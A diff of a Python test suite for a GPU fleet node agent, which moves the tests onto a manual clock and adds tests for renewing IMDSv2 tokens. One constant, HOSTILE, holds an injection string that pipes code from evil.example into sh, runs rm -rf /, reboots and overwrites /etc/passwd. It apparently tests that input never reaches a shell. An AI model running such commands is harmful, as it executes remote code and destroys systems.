@@ -6,16 +6,18 @@ import io
 import json
 import sys
 import threading
-import time
-from collections.abc import Mapping
+import urllib.error
+import urllib.request
+from collections.abc import Callable, Mapping
 from dataclasses import dataclass, field
+from email.message import Message
 from pathlib import Path
 from typing import Any
 
 import pytest
 
 from gpufleet.agent import __main__ as agent_main
-from gpufleet.agent.aws import EventBridgeReporter, ReportNotSent
+from gpufleet.agent.aws import EventBridgeReporter, Imds, ReportNotSent
 from gpufleet.agent.docker import (
     DOCKER_CLI_VARIABLES,
     ContainerLogs,
@@ -43,6 +45,7 @@ from gpufleet.topology import (
     DETAIL_NODE_STARTED,
     agent_log_stream,
 )
+from tests.manual_clock import ManualClock
 
 HOSTILE = "$(curl evil.example | sh); rm -rf / `reboot` && echo pwned > /etc/passwd"
 
@@ -109,8 +112,9 @@ class FakeReporter:
         self.reports.append((detail_type, dict(detail)))
 
 
-RUN_KEY = "runs/j-0123456789abcdef0123/run.json"
-RUN = json.dumps({"job_id": "j-0123456789abcdef0123", "image": "img", "command": ["a"]}).encode()
+JOB = "j-0123456789abcdef0123"
+RUN_KEY = f"runs/{JOB}/run.json"
+RUN = json.dumps({"job_id": JOB, "image": "img", "command": ["a"]}).encode()
 
 
 @dataclass
@@ -360,49 +364,82 @@ def test_a_report_eventbridge_did_not_take_raises() -> None:
 
 @dataclass
 class SlowRuntime:
+    """A container that runs `seconds` on the clock, or until the agent stops it."""
+
+    clock: ManualClock
     seconds: float
 
     def run(self, manifest: RunManifest, stop: threading.Event) -> RunOutcome:
-        if stop.wait(self.seconds):
+        if self.clock.wait(stop, self.seconds):
             return RunOutcome(exit_code=0, reason="checkpointed on request")
         return RunOutcome(exit_code=0)
 
 
+def running(agent: NodeAgent) -> Callable[[], RunOutcome]:
+    """Start the agent on a thread; what it returns, once it did."""
+    outcome: list[RunOutcome] = []
+    thread = threading.Thread(target=lambda: outcome.append(agent.run()), daemon=True)
+    thread.start()
+
+    def result() -> RunOutcome:
+        thread.join(10.0)  # a hang guard: the clock alone decides when the run ends
+        assert not thread.is_alive() and outcome, "the agent did not return"
+        return outcome[0]
+
+    return result
+
+
+def step(clock: ManualClock, seconds: float, by: float, threads: int) -> None:
+    """Move the clock on by `by` at a time, letting `threads` waiting threads act at each."""
+    for _ in range(round(seconds / by)):
+        clock.settle(threads)
+        clock.advance(by)
+
+
+# While a run goes on, three threads wait on the clock: the run, heartbeats, the control watch.
+RUN_THREADS = 3
+
+
 def test_the_agent_heartbeats_while_the_container_runs_and_stops_after() -> None:
-    document = json.dumps({"job_id": "j-0123456789abcdef0123", "image": "i", "command": ["a"]})
-    reporter = FakeReporter()
+    clock, reporter = ManualClock(), FakeReporter()
     agent = NodeAgent(
         FakeIdentity(),
-        FakeManifests({"runs/j-0123456789abcdef0123/run.json": document.encode()}),
+        FakeManifests({RUN_KEY: RUN}),
         reporter,
-        SlowRuntime(0.35),
-        heartbeat_seconds=0.1,
+        SlowRuntime(clock, 350.0),
+        heartbeat_seconds=60.0,
+        clock=clock,
     )
-    agent.run()
+    result = running(agent)
+    step(clock, 350.0, by=10.0, threads=RUN_THREADS)
+    assert result().exit_code == 0
     kinds = [kind for kind, _ in reporter.reports]
-    assert kinds[0] == DETAIL_NODE_STARTED and kinds[-1] == DETAIL_NODE_FINISHED
-    assert 2 <= kinds.count(DETAIL_NODE_HEARTBEAT) <= 4
-    time.sleep(0.25)
-    assert len(reporter.reports) == len(kinds)  # no heartbeat after the finish
+    # One at 60, 120, 180, 240 and 300 s; the run ended at 350 s.
+    assert kinds == [DETAIL_NODE_STARTED, *[DETAIL_NODE_HEARTBEAT] * 5, DETAIL_NODE_FINISHED]
+    clock.advance(3600.0)
+    assert clock.waiting() == 0 and len(reporter.reports) == len(kinds)  # none after the finish
 
 
 def test_a_checkpoint_instruction_stops_the_run_and_is_reported() -> None:
-    job = "j-0123456789abcdef0123"
-    document = json.dumps({"job_id": job, "image": "i", "command": ["a"]}).encode()
-    manifests = FakeManifests({f"runs/{job}/run.json": document})
-    reporter = FakeReporter()
+    clock, reporter = ManualClock(), FakeReporter()
+    manifests = FakeManifests({RUN_KEY: RUN})
     agent = NodeAgent(
-        FakeIdentity(), manifests, reporter, SlowRuntime(5.0), control_poll_seconds=0.05
+        FakeIdentity(),
+        manifests,
+        reporter,
+        SlowRuntime(clock, 5000.0),
+        control_poll_seconds=10.0,
+        clock=clock,
     )
-    threading.Timer(
-        0.2,
-        lambda: manifests.documents.update(
-            {f"runs/{job}/control.json": b'{"action": "checkpoint", "reason": "preempted"}'}
-        ),
-    ).start()
-    started = time.monotonic()
-    outcome = agent.run()
-    assert time.monotonic() - started < 2.0  # stopped long before its 5 s run
+    result = running(agent)
+    step(clock, 20.0, by=10.0, threads=RUN_THREADS)  # two looks: no instruction yet
+    clock.settle(RUN_THREADS)
+    manifests.documents[f"runs/{JOB}/control.json"] = (
+        b'{"action": "checkpoint", "reason": "preempted"}'
+    )
+    clock.advance(10.0)
+    outcome = result()
+    assert clock.now() == 30.0  # stopped at the next look, long before its 5000 s
     assert outcome.reason == "checkpointed on request"
     assert reporter.reports[-1][1]["reason"] == "checkpointed on request"
 
@@ -471,49 +508,48 @@ class FakeGpus:
 @dataclass
 class FakeSink:
     points: list[tuple[str, str, float, str]] = field(default_factory=list)
-    got_job_metric: threading.Event = field(default_factory=threading.Event)
 
     def put(self, job_id: str, name: str, value: float, unit: str) -> None:
         self.points.append((job_id, name, value, unit))
-        if name == "samples_per_second":
-            self.got_job_metric.set()
 
 
 @dataclass
 class PrintingRuntime:
-    """A container that prints its throughput, then runs until the agent published it."""
+    """A container that prints its throughput, then runs 100 s on the clock."""
 
     job_metrics: JobMetrics
-    sink: FakeSink
+    clock: ManualClock
 
     def run(self, manifest: RunManifest, stop: threading.Event) -> RunOutcome:
         self.job_metrics.feed("GPUFLEET_METRIC samples_per_second=400\n")
         self.job_metrics.feed("training step 10\n")
-        published = self.sink.got_job_metric.wait(5.0)
-        return RunOutcome(exit_code=0 if published else 1)
+        self.clock.wait(stop, 100.0)
+        return RunOutcome(exit_code=0)
 
 
 def test_the_agent_publishes_gpu_memory_and_the_jobs_own_metrics() -> None:
-    job = "j-0123456789abcdef0123"
-    document = json.dumps({"job_id": job, "image": "i", "command": ["a"]}).encode()
-    sink, job_metrics = FakeSink(), JobMetrics()
+    clock, sink, job_metrics = ManualClock(), FakeSink(), JobMetrics()
     agent = NodeAgent(
         FakeIdentity(),
-        FakeManifests({f"runs/{job}/run.json": document}),
+        FakeManifests({RUN_KEY: RUN}),
         FakeReporter(),
-        PrintingRuntime(job_metrics, sink),
+        PrintingRuntime(job_metrics, clock),
         gpu_probe=FakeGpus(),
         metrics=sink,
-        metrics_seconds=0.01,
+        metrics_seconds=60.0,
         job_metrics=job_metrics,
+        clock=clock,
     )
-    assert agent.run().exit_code == 0
+    result = running(agent)
+    step(clock, 100.0, by=10.0, threads=RUN_THREADS + 1)  # and the metrics publisher
+    assert result().exit_code == 0
     published = {(name, value, unit) for _, name, value, unit in sink.points}
-    assert ("GpuUtilization", 97.0, "Percent") in published
-    assert ("GpuMemoryUsed", 20480.0, "Megabytes") in published
-    assert ("samples_per_second", 400.0, "None") in published
-    assert "GpuTemperature" not in {name for name, _, _ in published}
-    assert {job_id for job_id, _, _, _ in sink.points} == {job}
+    assert published == {  # one publication, at 60 s
+        ("GpuUtilization", 97.0, "Percent"),
+        ("GpuMemoryUsed", 20480.0, "Megabytes"),
+        ("samples_per_second", 400.0, "None"),
+    }
+    assert len(sink.points) == 3 and {job_id for job_id, _, _, _ in sink.points} == {JOB}
 
 
 @dataclass
@@ -701,3 +737,53 @@ def test_a_checkpoint_request_stops_the_container_with_its_grace(tmp_path: Path)
 @pytest.mark.parametrize(("returncode", "status"), [(0, 0), (137, 137), (-9, 137), (-15, 143)])
 def test_a_death_by_signal_is_reported_as_docker_reports_it(returncode: int, status: int) -> None:
     assert exit_status(returncode) == status
+
+
+# -- IMDSv2 -------------------------------------------------------------------------------------
+
+
+@dataclass
+class FakeImds:
+    """The metadata service: a token lasts the TTL it was asked for (on `now`); a request with
+    an expired or unknown token answers 401, as IMDSv2 does."""
+
+    now: float = 0.0
+    notice: str = '{"action": "terminate", "time": "2026-01-01T00:00:00Z"}'
+    tokens: dict[str, float] = field(default_factory=dict)  # token -> expiry
+    issued: int = 0
+    refused: int = 0
+
+    def urlopen(self, request: urllib.request.Request, timeout: float) -> io.BytesIO:
+        if request.get_method() == "PUT":
+            ttl = float(request.get_header("X-aws-ec2-metadata-token-ttl-seconds") or 0)
+            assert 1 <= ttl <= 21600  # IMDSv2's bounds
+            token = f"token-{self.issued}"
+            self.issued += 1
+            self.tokens[token] = self.now + ttl
+            return io.BytesIO(token.encode())
+        token = request.get_header("X-aws-ec2-metadata-token") or ""
+        if self.tokens.get(token, -1.0) <= self.now:
+            self.refused += 1
+            raise urllib.error.HTTPError(request.full_url, 401, "Unauthorized", Message(), None)
+        if request.full_url.endswith("/spot/instance-action"):
+            return io.BytesIO(self.notice.encode())
+        raise urllib.error.HTTPError(request.full_url, 404, "Not Found", Message(), None)
+
+
+def test_the_imds_token_is_renewed_before_it_expires() -> None:
+    imds = FakeImds()
+    identity = Imds(urlopen=imds.urlopen, clock=lambda: imds.now)
+    assert identity.interruption_notice() == imds.notice
+    for hours in range(1, 13):
+        imds.now = hours * 3600 + 1.0  # at 6 h 1 s, the first token is over
+        assert identity.interruption_notice() == imds.notice
+    assert imds.refused == 0  # renewed before: no call ever went out with an expired token
+    assert imds.issued == 3
+
+
+def test_a_token_the_service_no_longer_takes_is_replaced_once() -> None:
+    imds = FakeImds()
+    identity = Imds(urlopen=imds.urlopen, clock=lambda: imds.now)
+    imds.tokens.clear()  # the service forgot it (a restarted IMDS)
+    assert identity.interruption_notice() == imds.notice
+    assert imds.refused == 1 and imds.issued == 2
